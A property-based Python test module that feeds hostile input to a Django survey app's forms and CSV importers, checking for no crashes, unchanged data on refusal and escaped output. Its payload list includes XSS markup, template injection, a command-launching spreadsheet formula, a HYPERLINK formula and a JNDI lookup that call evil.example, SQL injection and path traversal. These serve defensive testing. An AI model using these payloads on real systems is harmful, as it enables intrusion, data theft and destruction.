"""
Hostile input, property-based: every public form, the consultant forms that
take free text, and the two CSV importers (responses, contacts).

Whatever is posted or imported:

1. nothing answers 500 (the test client is told not to raise, so a crash shows
   as a status);
2. it is either refused, with a visible error and the database exactly as it
   was, or taken, with the text stored as typed after the documented
   normalisation: surrounding whitespace stripped, and inner runs of
   whitespace collapsed in departments, segments and theme names;
3. every page that shows a stored text shows it escaped, and the exports keep
   it exactly, except that a cell a spreadsheet would run as a formula gets a
   leading apostrophe.

The texts: arbitrary unicode (every category a request can carry: control
characters, line and paragraph separators, bidi marks, combining marks,
emoji; never lone surrogates, which UTF-8 cannot encode), HTML and template
payloads, spreadsheet formulas, CSV-breaking quotes and line ends, NUL, and
strings of 100,000 characters and more. Each example runs in a transaction of
its own that is rolled back after it (``hypothesis.extra.django.TestCase``).

Run this module on PostgreSQL too, which refuses NUL in text that SQLite stores:
``DATABASE_URL=postgres://postgres@127.0.0.1:5432/gapsurvey pytest tests/security``.
"""

from __future__ import annotations

import csv
import io
import tempfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote, urlencode

from django.apps import apps
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import connection
from django.test import Client, TestCase, override_settings
from django.urls import reverse
from django.utils.html import escape
from django.utils.text import slugify
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.extra.django import TestCase as HypothesisTestCase
from openpyxl import load_workbook

from analysis import exports
from analysis import services as analysis_services
from analysis.models import Theme
from surveys import services
from surveys.models import (
    QUESTION_TAGS,
    RATING_MAX,
    RATING_MIN,
    STAFF_MEMBERS_MAX,
    STAFF_MEMBERS_MIN,
    AnswerItem,
    Department,
    Engagement,
    Invitation,
    Question,
    Rating,
    RatingItem,
    Respondent,
    Wave,
    WorkshopSession,
)
from surveys.services import Answers, Contact, ItemInput, RatingInput, SheetDetails
from surveys.validators import control_character
from tests.surveys.factories import (
    ALL_FOURS,
    answer_post_data,
    consultant_create,
    engagement_create,
    first_wave,
    sheet_details,
    stored_items,
    submission_key,
)

MAX_LEN = django_settings.GAPSURVEY_ITEM_MAX_LENGTH

# --- Payloads and strategies ------------------------------------------------------

# Markup that must never reach a page as it was typed.
RAW_MARKUP = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg onload=alert(1)>")
PAYLOADS = (
    *RAW_MARKUP,
    "{{ 7*7 }}",
    "{% debug %}",
    "{company} {name} {link} {0} {}",  # the invitation email's placeholders, and two it refuses
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    'He said ""hi"", then "left,\n',
    'a,b\r\nc,"d',
    "\x00",
    "nul\x00inside",
    "\u202eevil\u202c",
    "\u200f\u200e\u061c",
    "line\u2028para\u2029",
    "\ufeffbom",
    "e\u0301\u0301\u0301\u0301",
    "👩\u200d👩\u200d👧\u200d👦🏳️\u200d🌈",
    "\x1b[31mred\x1b[0m",
    "\x07\x08\x7f\x85\x9b",
    "Robert'); DROP TABLE surveys_answeritem;--",
    "../../etc/passwd%00",
    "${jndi:ldap://evil.example/a}",
    "\ud7ff\ue000\ufdd0\ufffe\uffff\U0010ffff",
    "_x0041_",
)

# Every category a UTF-8 request can carry (surrogates, Cs, cannot be encoded).
any_character = st.characters(codec="utf-8")
short_text = st.text(any_character, max_size=40)
# Past the csv module's field limit (131,072) too.
huge_text = st.builds(
    lambda unit, size: (unit * size)[:size],
    st.text(any_character, min_size=1, max_size=4),
    st.integers(100_000, 140_000),
)
bounded_text = st.one_of(
    st.sampled_from(PAYLOADS),
    short_text,
    st.builds(lambda *parts: "".join(parts), short_text, st.sampled_from(PAYLOADS), short_text),
)
hostile_text = st.one_of(bounded_text, huge_text)
hostile_number = st.one_of(
    st.integers(-(10**30), 10**30).map(str),
    st.sampled_from(["", " ", "7.0", "7.5", "1e3", "0x10", "NaN", "inf", "-0", "+7", " 7 ", "٣", "７", "1_0"]),
    st.just("9" * 5000),  # past int()'s 4,300 digits
    hostile_text,
)
hostile_date = st.one_of(
    st.sampled_from(["0000-01-01", "0001-01-01", "9999-12-31", "10000-01-01", "2024-02-30", "-1-01-01", "2024-13-01"]),
    st.dates().map(str),
    hostile_text,
)


# Changes to a form's post: (what, which field, counted round the sorted names, the new value).
post_changes = st.lists(
    st.tuples(
        st.sampled_from(["drop", "replace", "repeat", "add"]),
        st.integers(0, 10**6),
        st.one_of(hostile_text, hostile_number),
    ),
    min_size=1,
    max_size=4,
)


def mangled(data: dict[str, str], changes: list[tuple[str, int, str]]) -> dict[str, object]:
    """``data`` with fields dropped, replaced, sent twice, or a row's field added past the counted rows."""
    data = dict(data)
    for change, index, value in changes:
        if not data:
            break
        name = sorted(data)[index % len(data)]
        if change == "drop":
            del data[name]
        elif change == "replace":
            data[name] = value
        elif change == "repeat":
            data[name] = [data[name], value]  # the same field twice, as a forged form can send it
        else:
            prefix, _, field_name = name.rpartition("-")
            data[f"{prefix.rpartition('-')[0] or prefix}-{index % 20}-{field_name}"] = value
    return data


def examples(n: int):
    """Bounded runs: each example is a few requests against the database."""
    return settings(
        max_examples=n,
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example],
    )


# --- What every test checks ---------------------------------------------------------

# Only on a page that shows an error: a field's message, the answer sheet's banner, an error flash.
ERROR_MARKS = ("invalid-feedback", "alert-danger", "text-danger")
# Funnel timestamps: showing or posting the customer's page records them, answered or not.
FUNNEL_FIELDS = {"opened_at", "started_at"}
FORM_ENCODED = "application/x-www-form-urlencoded"


class Browser(Client):
    """A test client that answers a crash with a 500 response, as a server does, instead of raising it."""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, raise_request_exception=False, **kwargs)


def database_snapshot() -> dict[str, list[tuple]]:
    """Every row of the app's own tables, to prove that a refused post changed nothing."""
    snapshot = {}
    for app in ("surveys", "analysis"):
        for model in apps.get_app_config(app).get_models():
            columns = [f.attname for f in model._meta.concrete_fields if f.name not in FUNNEL_FIELDS]
            snapshot[model._meta.label] = list(model.objects.order_by("pk").values_list(*columns))
    return snapshot


def html_of(response) -> str:
    assert response.status_code < 500, f"{response.status_code} from {response.request['PATH_INFO']}"
    return response.content.decode()


def sheet_taken(response) -> bool:
    """An answer page took the post: a redirect, or a staff sheet's "submitted" page (shown, not redirected to)."""
    return response.status_code == 302 or (
        response.status_code == 200 and "public/staff_submitted.html" in [t.name for t in response.templates]
    )


def assert_error_shown(html: str) -> None:
    assert any(mark in html for mark in ERROR_MARKS), "refused without a visible error"


def assert_refused(response, before: dict) -> str:
    """The page came back with a visible error and the database is as it was; returns the page."""
    html = html_of(response)
    assert response.status_code == 200, response.status_code
    assert_error_shown(html)
    assert database_snapshot() == before, "a refused post changed the database"
    return html


def assert_shown_escaped(html: str, text: str) -> None:
    """``text`` is on the page as the template's escaping writes it, and none of its markup is live."""
    title = html[html.find("<title>") : html.find("</title>")].removeprefix("<title>")
    assert escape(text) in html, f"{text[:80]!r} is not on the page {title[:200]!r} (escaped)"
    for markup in RAW_MARKUP:
        if markup in text:
            assert markup not in html, f"{markup!r} reached the page unescaped"


def must_refuse(typed: str, max_length: int | None) -> bool:
    """What every text field refuses, after its surrounding whitespace is stripped."""
    return control_character(typed) is not None or (max_length is not None and len(typed) > max_length)


def collapse(text: str) -> str:
    return " ".join(text.split())


def csv_text(rows: list[list[str]]) -> str:
    """Rows as a spreadsheet saves them: quoted where a value holds a comma, a quote or a line end."""
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


GOOD_ITEMS = {
    "strengths": [("Friendly staff", "")],
    "competition": [("Rivals deliver on Sundays", "good")],
    "continue_start": [("Keep the newsletter", "continue")],
}
QUESTION_KEYS = list(QUESTION_TAGS)


def with_item(question: str, text: str) -> dict[str, list]:
    """The good items plus ``text`` under ``question``, tagged as the question needs."""
    tags = QUESTION_TAGS[question]
    return {**GOOD_ITEMS, question: [*GOOD_ITEMS.get(question, []), (text, tags[0] if tags else "")]}


def expected_items(items: dict[str, list]) -> list[tuple[str, str, str]]:
    """(question, tag, text) as stored: stripped, and empty rows left out."""
    return sorted((q, tag, text.strip()) for q, rows in items.items() for text, tag in rows if text.strip())


def assert_every_stored_answer_is_sound() -> None:
    """Whatever got in is what the forms allow: no empty, over-long or control-character item, no bad rating."""
    for text in AnswerItem.objects.values_list("text", flat=True):
        assert text == text.strip() and 0 < len(text) <= MAX_LEN and control_character(text) is None, repr(text[:80])
    for value, votes in Rating.objects.values_list("value", "votes"):
        assert RATING_MIN <= value <= RATING_MAX and votes >= 1


class WaveCase(HypothesisTestCase):
    """A consultant's engagement with its first wave; each hypothesis example rolled back on its own."""

    client_class = Browser

    @classmethod
    def setUpTestData(cls):
        cls.consultant, workspace = consultant_create()
        cls.engagement = engagement_create(workspace=workspace)
        cls.wave = first_wave(cls.engagement)

    def wave_url(self, name: str, *args) -> str:
        return reverse(name, args=[self.engagement.slug, self.wave.number, *args])

    def login(self) -> None:
        self.client.force_login(self.consultant)


# --- Public answer sheets -----------------------------------------------------------


@dataclass
class Channel:
    name: str
    url: str
    extra: dict = field(default_factory=dict)  # the page's fields besides the answer sheet
    has_submission_key: bool = True
    updates_draft: bool = False  # the post rewrites the existing draft instead of adding a respondent
    consultant: bool = False


CHANNELS = [
    "leader",
    "staff start, submit",
    "staff start, draft",
    "staff draft link, submit",
    "staff draft link, draft",
    "customer link",
    "open link",
    "paper sheet",
]
# Every public page addressed by a token or a join code.
PUBLIC_ADDRESSES = [
    "/join/{}/", "/join/{}/thanks/", "/staff/{}/", "/staff/{}/print/", "/sheet/{}/",
    "/c/{}/", "/c/{}/done/", "/c/{}/started/", "/c/{}/unsubscribe/", "/o/{}/", "/o/{}/thanks/",
]  # fmt: skip
STAFF_CHANNELS = [name for name in CHANNELS if "staff" in name or name == "paper sheet"]
KEYED_CHANNELS = [name for name in CHANNELS if name != "customer link"]


# Wrong tokens and codes are what these tests post: no limit on guesses, so every one is looked up.
@override_settings(GAPSURVEY_GUESS_LIMIT=10**9)
class PublicFormsTests(WaveCase):
    """The leader, staff, customer and open-link answer pages, the join form, unsubscribe and started."""

    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.session = services.session_open(wave=cls.wave, opened_by=cls.consultant)
        services.invitations_create(wave=cls.wave, contacts=[Contact(email="ana@example.com", segment="Retail")])
        cls.invitation = Invitation.objects.get()
        cls.draft = services.staff_sheet_save(
            wave=cls.wave,
            details=SheetDetails(group_name="Team Red", department="Sales", members=6),
            answers=Answers(items=[ItemInput(question_key="strengths", text="We know our products")]),
            submit=False,
        )

    def channel(self, name: str) -> Channel:
        staff_fields = {**sheet_details(), ("submit" if name.endswith("submit") else "draft"): "1"}
        if name.startswith("staff start"):
            return Channel(name, reverse("public:staff_start", args=[self.wave.staff_token]), staff_fields)
        if name.startswith("staff draft link"):
            url = reverse("public:staff_sheet", args=[self.draft.edit_token])
            return Channel(name, url, staff_fields, updates_draft=True)
        return {
            "leader": Channel(name, reverse("public:leader_answer", args=[self.session.code])),
            "customer link": Channel(
                name, reverse("public:customer_answer", args=[self.invitation.token]), has_submission_key=False
            ),
            "open link": Channel(
                name, reverse("public:open_answer", args=[self.wave.open_link_token]), {"segment": "Kiosk"}
            ),
            "paper sheet": Channel(
                name, self.wave_url("surveys:sheet_enter"), {**sheet_details(), "save": "1"}, consultant=True
            ),
        }[name]

    def sheet_data(self, channel: Channel, items=GOOD_ITEMS, fields: dict | None = None) -> dict[str, str]:
        """Show the page as a browser would; the sheet it then posts, with ``fields`` over the page's own."""
        if channel.consultant:
            self.login()
        extra = dict(channel.extra)
        if channel.has_submission_key:
            extra["submission_key"] = submission_key(self.client, channel.url)
        else:
            assert self.client.get(channel.url).status_code == 200
        return answer_post_data(self.wave, items=items, ratings=ALL_FOURS, extra={**extra, **(fields or {})})

    def post_sheet(self, channel: Channel, items=GOOD_ITEMS, *, fields: dict | None = None):
        return self.client.post(channel.url, self.sheet_data(channel, items, fields))

    def stored_respondent(self, channel: Channel, before: set[int]) -> Respondent:
        if channel.updates_draft:
            return Respondent.objects.get(pk=self.draft.pk)
        return Respondent.objects.exclude(pk__in=before).get()

    @examples(60)
    @given(channel_name=st.sampled_from(CHANNELS), question=st.sampled_from(QUESTION_KEYS), text=hostile_text)
    def test_an_answer_item_is_stored_stripped_or_refused_visibly(self, channel_name, question, text):
        channel = self.channel(channel_name)
        items = with_item(question, text)
        before, respondents = database_snapshot(), set(Respondent.objects.values_list("pk", flat=True))

        response = self.post_sheet(channel, items)

        if must_refuse(text.strip(), MAX_LEN):
            html = assert_refused(response, before)
            assert_shown_escaped(html, text)  # the refused sheet comes back as typed, to be corrected
        else:
            assert sheet_taken(response), html_of(response)[:2000]
            assert sorted(stored_items(self.stored_respondent(channel, respondents))) == expected_items(items)
        assert_every_stored_answer_is_sound()

    @examples(30)
    @given(
        channel_name=st.sampled_from(STAFF_CHANNELS),
        name=st.sampled_from(["group_name", "department", "members"]),
        value=st.one_of(hostile_text, hostile_number),
    )
    def test_a_staff_sheets_details_are_stored_or_refused_visibly(self, channel_name, name, value):
        channel = self.channel(channel_name)
        before, respondents = database_snapshot(), set(Respondent.objects.values_list("pk", flat=True))

        response = self.post_sheet(channel, fields={name: value})

        html = html_of(response)
        if sheet_taken(response):
            sheet = self.stored_respondent(channel, respondents)
            stored = {"group_name": sheet.group_name, "department": sheet.department, "members": sheet.members}
            if name == "members":
                assert STAFF_MEMBERS_MIN <= sheet.members <= STAFF_MEMBERS_MAX
            else:
                normalise = collapse if name == "department" else str.strip
                assert stored[name] == normalise(value)
                assert not must_refuse(value.strip(), 120)
        else:
            assert_refused(response, before)
            assert_shown_escaped(html, value)
        assert_every_stored_answer_is_sound()

    @examples(25)
    @given(segment=hostile_text)
    def test_an_open_link_segment_is_stored_or_refused_visibly(self, segment):
        channel = self.channel("open link")
        before, respondents = database_snapshot(), set(Respondent.objects.values_list("pk", flat=True))

        response = self.post_sheet(channel, fields={"segment": segment})

        if must_refuse(segment.strip(), 120):
            assert_shown_escaped(assert_refused(response, before), segment)
        else:
            assert sheet_taken(response), html_of(response)[:2000]
            assert self.stored_respondent(channel, respondents).department == collapse(segment)

    @examples(25)
    @given(channel_name=st.sampled_from(KEYED_CHANNELS), key=hostile_text)
    def test_a_forged_submission_key_never_stops_an_answer(self, channel_name, key):
        # The key is a hidden field the page renders; nobody could correct a refusal of it.
        channel = self.channel(channel_name)
        respondents = set(Respondent.objects.values_list("pk", flat=True))

        response = self.post_sheet(channel, fields={"submission_key": key})

        assert sheet_taken(response), html_of(response)[:2000]
        assert sorted(stored_items(self.stored_respondent(channel, respondents))) == expected_items(GOOD_ITEMS)

    @examples(40)
    @given(channel_name=st.sampled_from(CHANNELS), changes=post_changes)
    def test_a_mangled_post_is_refused_visibly_or_stores_sound_answers(self, channel_name, changes):
        """Fields missing, repeated or of the wrong type: management forms, ratings, spreads, buttons."""
        channel = self.channel(channel_name)
        data = mangled(self.sheet_data(channel), changes)
        before = database_snapshot()

        response = self.client.post(channel.url, data)

        if not sheet_taken(response):
            assert_refused(response, before)
        assert_every_stored_answer_is_sound()

    @examples(25)
    @given(code=hostile_text, method=st.sampled_from(["get", "post"]))
    def test_the_join_form_refuses_any_code_visibly(self, code, method):
        before = database_snapshot()

        response = getattr(self.client, method)(reverse("public:join"), {"code": code})

        assert_refused(response, before)  # no open session has such a code

    @examples(25)
    @given(body=st.dictionaries(hostile_text.filter(bool), hostile_text, max_size=3))
    def test_unsubscribe_and_started_take_any_body(self, body):
        token = self.invitation.token
        for name in ("public:customer_started", "public:customer_unsubscribe"):
            response = self.client.post(reverse(name, args=[token]), urlencode(body), content_type=FORM_ENCODED)
            assert response.status_code < 300, response.status_code
        invitation = Invitation.objects.get(pk=self.invitation.pk)
        assert invitation.unsubscribed_at is not None and invitation.started_at is not None

    @examples(40)
    @given(token=hostile_text.filter(bool), method=st.sampled_from(["get", "post"]))
    def test_any_token_in_a_public_address_is_not_found(self, token, method):
        # Tokens and join codes go into database lookups: NUL there makes PostgreSQL fail the query.
        for address in PUBLIC_ADDRESSES:
            path = address.format(quote(token, safe=""))
            response = getattr(self.client, method)(path)
            assert response.status_code in (404, 405), f"{response.status_code} from {path!r}"


# --- Consultant forms with free text ---------------------------------------------------


@dataclass(frozen=True)
class TextField:
    """One free-text field of a consultant form: how it is posted, read back and shown."""

    url: str
    data: Callable[[str], dict]  # the form's fields with the text in this one
    stored: Callable[[], object]  # the stored value, or None when there is none
    normalise: Callable[[str], str] = str.strip
    max_length: int | None = None
    shown_on: tuple[str, ...] = ()  # pages that show the stored value
    always_redirects: bool = False  # the view redirects with a flash message either way


AUDIENCES = ["leadership", "staff", "customer"]
SPEED_LABELS = {f"label_{audience}": "Speed" for audience in AUDIENCES}


class ConsultantFormsTests(WaveCase):
    """Engagement, settings, departments, wave, wording, rating items, sessions, contacts, email wording."""

    def answer_page(self, audience: str) -> str:
        """The public page that shows the wording for ``audience``."""
        if audience == "leadership":
            return reverse("public:leader_answer", args=[services.session_open(wave=self.wave).code])
        if audience == "staff":
            return reverse("public:staff_start", args=[self.wave.staff_token])
        return reverse("public:open_answer", args=[self.wave.open_link_token])

    def check_text_field(self, text: str, **field) -> None:
        """Post ``text`` in one field (see TextField): stored as normalised and shown escaped, or refused visibly."""
        text_field = TextField(**field)
        self.login()
        before, stored_before = database_snapshot(), text_field.stored()

        response = self.client.post(text_field.url, text_field.data(text))

        html = html_of(response)
        if text_field.always_redirects:
            assert response.status_code == 302
            html = html_of(self.client.get(response["Location"]))
            taken = text_field.stored() != stored_before
        else:
            taken = response.status_code == 302
        if taken:
            stored = text_field.stored()
            assert stored == text_field.normalise(text), f"stored {stored!r:.80} for {text!r:.80}"
            assert not must_refuse(text.strip(), text_field.max_length)
            for url in text_field.shown_on:
                assert_shown_escaped(html_of(self.client.get(url)), stored)
        else:
            assert response.status_code == 200 or text_field.always_redirects
            assert_error_shown(html)
            assert database_snapshot() == before

    @examples(25)
    @given(text=hostile_text)
    def test_a_new_engagements_name(self, text):
        self.check_text_field(
            text,
            url=reverse("surveys:engagement_create"),
            data=lambda t: {"name": t, "slug": ""},
            stored=lambda: Engagement.objects.exclude(pk=self.engagement.pk).values_list("name", flat=True).first(),
            max_length=200,
            shown_on=(reverse("surveys:engagement_list"),),
        )

    @examples(25)
    @given(text=hostile_text)
    def test_a_new_engagements_short_name(self, text):
        self.check_text_field(
            text,
            url=reverse("surveys:engagement_create"),
            data=lambda t: {"name": "Contoso", "slug": t},
            stored=lambda: Engagement.objects.exclude(pk=self.engagement.pk).values_list("slug", flat=True).first(),
            # Left empty, the short name is made from the company name.
            normalise=lambda t: t.strip() or "contoso",
            max_length=80,
            shown_on=(reverse("surveys:engagement_list"),),
        )

    @examples(25)
    @given(text=hostile_text)
    def test_an_engagements_name_in_its_settings(self, text):
        self.check_text_field(
            text,
            url=reverse("surveys:engagement_settings", args=[self.engagement.slug]),
            data=lambda t: {"name": t, "min_individuals": "5", "min_staff_sheets": "2"},
            stored=lambda: Engagement.objects.get(pk=self.engagement.pk).name,
            max_length=200,
            shown_on=(
                reverse("surveys:engagement_detail", args=[self.engagement.slug]),
                reverse("surveys:engagement_settings", args=[self.engagement.slug]),
                reverse("public:open_answer", args=[self.wave.open_link_token]),
            ),
        )

    @examples(25)
    @given(text=hostile_text)
    def test_a_department(self, text):
        self.check_text_field(
            text,
            url=reverse("surveys:department_list", args=[self.engagement.slug]),
            data=lambda t: {"name": t},
            stored=lambda: Department.objects.values_list("name", flat=True).first(),
            normalise=collapse,
            max_length=120,
            shown_on=(
                reverse("surveys:department_list", args=[self.engagement.slug]),
                reverse("public:staff_start", args=[self.wave.staff_token]),
            ),
        )

    @examples(25)
    @given(text=hostile_text)
    def test_a_waves_title(self, text):
        self.check_text_field(
            text,
            url=self.wave_url("surveys:wave_edit"),
            data=lambda t: {"title": t, "open_link_enabled": "on"},
            stored=lambda: Wave.objects.get(pk=self.wave.pk).title,
            max_length=200,
            shown_on=(self.wave_url("surveys:wave_detail"), self.wave_url("surveys:wave_edit")),
        )

    def wording_post(self) -> dict[str, str]:
        """The question wording page's form as the browser posts it, unchanged."""
        questions = list(self.wave.questions.all())
        posted = {
            "form-TOTAL_FORMS": str(len(questions)),
            "form-INITIAL_FORMS": str(len(questions)),
            "form-MIN_NUM_FORMS": "0",
            "form-MAX_NUM_FORMS": "1000",
        }
        for n, question in enumerate(questions):
            posted[f"form-{n}-id"] = str(question.pk)
            for audience in AUDIENCES:
                posted[f"form-{n}-text_{audience}"] = getattr(question, f"text_{audience}")
        return posted

    @examples(25)
    @given(text=hostile_text, audience=st.sampled_from(AUDIENCES))
    def test_a_questions_wording(self, text, audience):
        first = self.wave.questions.first()
        self.check_text_field(
            text,
            url=self.wave_url("surveys:question_wording"),
            data=lambda t: {**self.wording_post(), f"form-0-text_{audience}": t},
            stored=lambda: getattr(Question.objects.get(pk=first.pk), f"text_{audience}"),
            shown_on=(self.wave_url("surveys:question_wording"), self.answer_page(audience)),
        )

    @examples(30)
    @given(changes=post_changes)
    def test_a_mangled_wording_post_is_refused_visibly_or_rewords_only_this_waves_questions(self, changes):
        """Rows added, ids dropped or pointing elsewhere, counts of the wrong type."""
        self.login()
        data = mangled(self.wording_post(), changes)
        before = database_snapshot()

        response = self.client.post(self.wave_url("surveys:question_wording"), data)

        if response.status_code != 302:
            assert_refused(response, before)
        else:
            assert Question.objects.count() == len(before["surveys.Question"])
            assert set(Question.objects.values_list("pk", "wave_id", "key")) == {
                (pk, wave, key) for pk, wave, key, *_ in before["surveys.Question"]
            }

    @examples(25)
    @given(text=hostile_text, audience=st.sampled_from(AUDIENCES))
    def test_a_rating_items_wording(self, text, audience):
        self.check_text_field(
            text,
            url=self.wave_url("surveys:rating_item_list"),
            data=lambda t: {"key": "speed", **SPEED_LABELS, f"label_{audience}": t},
            stored=lambda: RatingItem.objects.filter(key="speed").values_list(f"label_{audience}", flat=True).first(),
            max_length=300,
            shown_on=(self.answer_page(audience),),  # the list shows the customers' wording only
        )

    @examples(25)
    @given(text=hostile_text)
    def test_a_rating_items_key(self, text):
        keys = set(self.wave.rating_items.values_list("key", flat=True))
        self.check_text_field(
            text,
            url=self.wave_url("surveys:rating_item_list"),
            data=lambda t: {"key": t, **SPEED_LABELS},
            stored=lambda: RatingItem.objects.exclude(key__in=keys).values_list("key", flat=True).first(),
            normalise=lambda t: slugify(t).replace("-", "_"),
            max_length=40,
            shown_on=(self.wave_url("surveys:rating_item_list"),),
        )

    @examples(25)
    @given(text=hostile_text)
    def test_a_workshop_sessions_name(self, text):
        self.check_text_field(
            text,
            url=self.wave_url("surveys:session_open"),
            data=lambda t: {"name": t},
            stored=lambda: WorkshopSession.objects.values_list("name", flat=True).first(),
            max_length=200,
            shown_on=(self.wave_url("surveys:wave_detail"),),
            always_redirects=True,
        )

    @examples(25)
    @given(text=hostile_text, column=st.sampled_from(["name", "segment"]), upload=st.booleans())
    def test_a_contacts_name_and_segment(self, text, column, upload):
        """Pasted as a line or uploaded as a CSV file; quoted as a spreadsheet writes it."""
        cells = {"email": "ana@example.com", "name": "Ana Ruiz", "segment": "Retail", column: text}
        content = csv_text([["email", "name", "segment"]] * upload + [list(cells.values())])

        def data(_: str) -> dict:
            if upload:
                return {"upload": SimpleUploadedFile("contacts.csv", content.encode(), "text/csv")}
            return {"pasted": content}

        self.check_text_field(
            text,
            url=self.wave_url("surveys:invitation_list"),
            data=data,
            stored=lambda: Invitation.objects.values_list(column, flat=True).first(),
            max_length=200 if column == "name" else 120,
            shown_on=(
                self.wave_url("surveys:invitation_list"),
                *([self.wave_url("surveys:invitation_email")] if column == "name" else []),
            ),
        )

    @examples(25)
    @given(text=hostile_text)
    def test_the_invitation_emails_subject(self, text):
        self.check_text_field(
            text,
            url=self.wave_url("surveys:invitation_email"),
            data=lambda t: {"invite_subject": t, "invite_body": "", "reminders": "2", "reminder_after_days": "4"},
            stored=lambda: Wave.objects.get(pk=self.wave.pk).invite_subject,
            max_length=200,
            shown_on=(self.wave_url("surveys:invitation_email"),),
        )

    @examples(25)
    @given(text=st.builds(lambda t, link: t + link, hostile_text, st.sampled_from(["", "\n{link}"])))
    def test_the_invitation_emails_text(self, text):
        self.check_text_field(
            text,
            url=self.wave_url("surveys:invitation_email"),
            data=lambda t: {"invite_subject": "", "invite_body": t, "reminders": "2", "reminder_after_days": "4"},
            stored=lambda: Wave.objects.get(pk=self.wave.pk).invite_body,
            shown_on=(self.wave_url("surveys:invitation_email"),),
        )

    @examples(40)
    @given(
        name=st.sampled_from(["min_individuals", "min_staff_sheets", "reminders", "reminder_after_days",
                              "target_leadership", "target_staff", "target_customer", "opens_on", "closes_on"]),
        number=st.one_of(hostile_number, hostile_date),
    )  # fmt: skip
    def test_numbers_and_dates_out_of_range_are_refused_visibly(self, name, number):
        if name.startswith("min_"):
            url, row = reverse("surveys:engagement_settings", args=[self.engagement.slug]), self.engagement
            data = {"name": "Northwind Traders", "min_individuals": "5", "min_staff_sheets": "2"}
        elif name.startswith("remind"):
            url, row = self.wave_url("surveys:invitation_email"), self.wave
            data = {"reminders": "2", "reminder_after_days": "4"}
        else:
            url, row, data = self.wave_url("surveys:wave_edit"), self.wave, {"title": "Spring"}
        self.login()
        before = database_snapshot()

        response = self.client.post(url, {**data, name: number})

        if response.status_code != 302:
            assert_refused(response, before)
        else:
            row = type(row).objects.get(pk=row.pk)
            stored = getattr(row, name)
            # Read back as the type the column holds, within the range the database gives it.
            assert stored is None or not isinstance(stored, str)
            if isinstance(stored, int):
                low, high = connection.ops.integer_field_range(row._meta.get_field(name).get_internal_type())
                assert low <= stored <= high


# --- The responses importer -----------------------------------------------------------

IMPORT_HEADER = ["group", "respondent", "department", "members", "question", "tag", "text"]


class ImportResponsesTests(WaveCase):
    """``manage.py import_responses``: every row checked, all of a file imported or none of it."""

    def setUp(self):
        folder = tempfile.TemporaryDirectory()
        self.addCleanup(folder.cleanup)
        self.path = Path(folder.name) / "responses.csv"

    def run_import(self, content: str | bytes, *args: str) -> tuple[bool, str]:
        """Import ``content``; (imported?, what the command wrote). Any exception but CommandError fails the test."""
        if isinstance(content, str):
            content = content.encode("utf-8")
        self.path.write_bytes(content)
        out, err = io.StringIO(), io.StringIO()
        try:
            call_command("import_responses", *args, str(self.path), stdout=out, stderr=err)
        except CommandError as error:
            return False, f"{err.getvalue()}{error}"
        return True, out.getvalue()

    def assert_imported_all_or_nothing(self, content: str | bytes, *args: str) -> tuple[bool, str]:
        before = database_snapshot()
        imported, said = self.run_import(content, *(args or [self.engagement.slug]))
        if not imported:
            assert database_snapshot() == before, "a refused file left rows behind"
            assert control_character(said) is None, "an error line carries a control character to the terminal"
        assert_every_stored_answer_is_sound()
        return imported, said

    @examples(60)
    @given(column=st.sampled_from(IMPORT_HEADER), value=hostile_text)
    def test_a_hostile_value_in_any_column_is_imported_verbatim_or_not_at_all(self, column, value):
        row = dict(zip(IMPORT_HEADER, ["customer", "C17", "Retail", "", "improvements", "", "Waited two weeks"]))
        row[column] = value
        rating = {**row, "question": "rating:overall", "tag": "", "text": "2"}  # the same respondent's rating
        content = csv_text([IMPORT_HEADER, [row[c] for c in IMPORT_HEADER], [rating[c] for c in IMPORT_HEADER]])

        imported, said = self.assert_imported_all_or_nothing(content)

        if imported:
            respondent = Respondent.objects.get(channel=Respondent.Channel.IMPORT)
            item = respondent.items.get()
            stored = {"respondent": respondent.external_ref, "department": respondent.department, "text": item.text}
            if column in stored:
                normalise = collapse if column == "department" else str.strip
                assert stored[column] == normalise(value)
                assert control_character(value.strip()) is None
        else:
            assert "line " in said, said

    @examples(40)
    @given(
        content=st.one_of(
            st.binary(max_size=2000),
            st.text(any_character, max_size=2000),
            st.text(any_character, max_size=2000).map(lambda body: ",".join(IMPORT_HEADER) + "\n" + body),
        )
    )
    def test_any_file_content_is_imported_whole_or_refused_cleanly(self, content):
        self.assert_imported_all_or_nothing(content)

    @examples(15)
    @given(name=hostile_text.filter(lambda t: "\x00" not in t))  # NUL cannot be in a command line argument
    def test_a_hostile_company_name_for_a_new_engagement(self, name):
        content = csv_text([IMPORT_HEADER, ["leadership", "L1", "", "", "strengths", "", "Our people"]])

        imported, _ = self.assert_imported_all_or_nothing(content, "new-co", "--create-as", name)

        if imported:
            assert Engagement.objects.get(slug="new-co").name == name.strip()

    @override_settings(GAPSURVEY_IMPORT_MAX_BYTES=1000)
    def test_a_file_over_the_size_limit_is_refused_unread(self):
        rows = [["customer", f"C{n}", "", "", "strengths", "", "x" * 40] for n in range(40)]

        imported, said = self.assert_imported_all_or_nothing(csv_text([IMPORT_HEADER, *rows]))

        assert not imported and "larger than" in said


# --- Contacts upload: any file ------------------------------------------------------


class ContactsUploadTests(WaveCase):
    @examples(30)
    @given(content=st.one_of(
        st.binary(max_size=3000),
        st.text(any_character, max_size=3000).map(lambda t: t.encode()),
        st.builds(lambda body: ("email,name,segment\n" + body).encode(), st.text(any_character, max_size=3000)),
        huge_text.map(lambda t: ("email,name,segment\nana@example.com," + t + ",Retail\n").encode()),
    ))  # fmt: skip
    def test_any_uploaded_file_creates_sound_contacts_or_none(self, content):
        self.login()
        before = database_snapshot()

        upload = SimpleUploadedFile("contacts.csv", content, "text/csv")

        response = self.client.post(self.wave_url("surveys:invitation_list"), {"upload": upload})

        if response.status_code != 302:
            assert_refused(response, before)
        else:
            for name, segment in Invitation.objects.values_list("name", "segment"):
                assert control_character(name + segment) is None
                assert name == name.strip() and segment == segment.strip()


